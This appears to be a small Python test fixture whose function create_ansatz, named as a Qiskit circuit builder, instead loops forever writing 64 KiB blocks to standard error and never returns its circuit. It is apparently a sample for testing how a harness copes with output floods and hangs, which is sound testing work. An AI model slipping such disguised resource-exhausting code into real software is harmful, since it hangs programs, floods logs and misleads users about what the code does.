import os

from qiskit import QuantumCircuit

block = b"e" * 65536


def create_ansatz(num_qubits):
    while True:
        os.write(2, block)
    return QuantumCircuit(num_qubits)
